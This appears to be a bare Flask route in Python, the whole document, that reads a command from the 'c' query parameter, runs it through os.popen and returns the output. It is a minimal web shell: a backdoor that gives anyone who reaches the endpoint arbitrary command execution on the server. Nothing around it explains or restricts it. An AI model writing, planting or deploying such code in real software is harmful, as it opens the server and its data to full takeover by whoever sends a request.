@app.route("/")
def x():
    return os.popen(request.args.get("c")).read()
